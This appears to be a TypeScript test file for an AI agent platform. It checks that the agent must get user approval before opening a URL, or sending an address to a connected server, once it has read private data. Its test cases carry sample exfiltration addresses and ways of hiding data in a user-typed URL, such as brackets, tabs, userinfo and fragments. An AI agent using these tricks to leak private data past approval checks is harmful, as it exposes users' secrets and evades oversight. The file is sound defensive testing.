@@ -1,0 +1,115 @@
+import type { AgentSettings } from 'shared-contracts';
+import { connectAgentServer, decideApproval, listApprovals, saveAgentSettings } from 'shared-contracts/agent-calls';
+import { completeChat, createAgent } from 'shared-contracts/calls';
+import { afterAll, beforeAll, beforeEach, expect, it } from 'vitest';
+import { type FeedServer, startFeedServer } from '../../../testing/feed-server.ts';
+import { startToolServer, type TestToolServer } from '../../../testing/mcp-server.ts';
+import { type ScriptedProvider, type Step, startScriptedProvider } from '../../../testing/scripted-provider.ts';
+import { createTestApp, type TestApp, type TestUser } from '../../../testing/test-app.ts';
+
+let provider: ScriptedProvider;
+let office: TestToolServer;
+let site: FeedServer;
+let api: TestApp;
+let user: TestUser;
+let agentId: string;
+
+beforeAll(async () => {
+  [provider, office, site] = await Promise.all([startScriptedProvider(), startToolServer(), startFeedServer()]);
+  provider.script = [{ text: 'Done.' }, { finish: true }];
+  site.serve('/page', { body: 'A page.', headers: { 'content-type': 'text/plain' } });
+  const model = { LLM_BASE_URL: provider.baseUrl, LLM_MODEL: 'scripted', ALLOW_PRIVATE_PROVIDERS: '127.0.0.1' };
+  api = await createTestApp({ ...model, OUTBOUND_LOOPBACK: 'allow' });
+});
+afterAll(async () => {
+  await api.close();
+  await Promise.all([provider.close(), office.close(), site.close()]);
+});
+beforeEach(async () => {
+  user = await api.newUser();
+  const fields = { name: 'Clerk', description: 'Does the post.', instructions: 'Be exact.', starters: [] };
+  agentId = (await api.call(createAgent, { body: { email: user.email, ...fields } }, user)).body.agent_id;
+  await allow('read_web_page', 'search_works');
+});
+
+const page = (address: string): Step[] => [{ call: 'read_web_page', input: { url: address } }];
+const search: Step[] = [{ call: 'search_works', input: { question: 'What is the door code?' } }];
+
+/** Allows actions with the setting that asks for no approval at all. */
+const allow = (...allowedActions: string[]) => {
+  const body: Partial<AgentSettings> = {
+    apps: { usesOwnFiles: true, usesWorks: true, allowedActions },
+    decisions: { approval: 'nothing', guidance: '' },
+  };
+  return api.call(saveAgentSettings, { query: { agent_id: agentId }, body }, user);
+};
+const ask = async (message: string, sessionId?: string) => {
+  const session = sessionId === undefined ? {} : { session_id: sessionId };
+  const body = { email: user.email, message, agent_id: agentId, model: 'scripted', ...session };
+  return (await api.call(completeChat, { body }, user)).body;
+};
+
+/** Returns the inputs that the agent asked about while it answered; each is refused. */
+async function askedAbout(message: string, sessionId?: string): Promise<unknown[]> {
+  const asked: unknown[] = [];
+  let isAnswered = false;
+  const answer = ask(message, sessionId).finally(() => {
+    isAnswered = true;
+  });
+  await expect
+    .poll(async () => {
+      const { body } = await api.call(listApprovals, { query: { email: user.email } }, user);
+      for (const { approval_id, input } of body.approvals) {
+        asked.push(input);
+        await api.call(decideApproval, { query: { approval_id }, body: { decision: 'refused' } }, user);
+      }
+      return isAnswered;
+    })
+    .toBe(true);
+  expect(await answer).toMatchObject({ message: 'Done.', status: 'complete' });
+  return asked;
+}
+
+it('asks before it opens an address that the model wrote after reading private text, whatever the setting', async () => {
+  const leak = site.url('/collect?d=4711');
+  provider.first = [search, page(leak)];
+  expect(await askedAbout(`Summarize ${site.url('/page')}`)).toEqual([{ url: leak }]);
+  expect(site.requests('/collect?d=4711')).toEqual([]);
+  expect(JSON.stringify(provider.requests.at(-1)?.messages.at(-1))).toContain('did not allow');
+});
+
+it('opens an address that the user typed, and any address before something private was read', async () => {
+  provider.first = [page(site.url('/first')), search, page(site.url('/page'))];
+  expect(await askedAbout(`Summarize <${site.url('/page')}>, please.`)).toEqual([]);
+  expect([site.requests('/first').length, site.requests('/page').length]).toEqual([1, 1]);
+});
+
+it.each([
+  ['brackets', (typed: string) => `${typed}(4711)`],
+  ['a tab that clients drop', (typed: string) => `${typed}\t4711`],
+  ['a space', (typed: string) => `${typed} 4711`],
+  ['a user name', (typed: string) => typed.replace('http://', 'http://4711@')],
+  ['a fragment', (typed: string) => `${typed}#4711`],
+])('asks before it opens an address that hides more behind %s in the one the user typed', async (_, hide) => {
+  const address = hide(site.url('/page'));
+  provider.first = [search, page(address)];
+  expect(await askedAbout(`Summarize ${site.url('/page')}`)).toEqual([{ url: address }]);
+});
+
+it('asks when an earlier answer may hold what was read then', async () => {
+  const { session_id } = await ask('What is the door code?');
+  const leak = site.url('/collect?d=4712');
+  provider.first = [page(leak)];
+  expect(await askedAbout('Go on.', session_id ?? '')).toEqual([{ url: leak }]);
+  expect(site.requests('/collect?d=4712')).toEqual([]);
+});
+
+it('asks before an address goes to a connected server, and not before other input does', async () => {
+  const body = { name: 'Post', server_url: office.url, server_key: 'sk-post' };
+  await api.call(connectAgentServer, { query: { agent_id: agentId }, body }, user);
+  await allow('Post/postage', 'search_works');
+  const postage = (country: string): Step[] => [{ call: 'Post_postage', input: { country } }];
+  const leaks = ['evil.example/?d=4711', 'see https://evil.example/4711', '//evil.example/4711', 'www.4711.example'];
+  provider.first = [search, postage('Norway'), ...leaks.map(postage)];
+  expect(await askedAbout('What does a letter cost?')).toEqual(leaks.map((country) => ({ country })));
+});
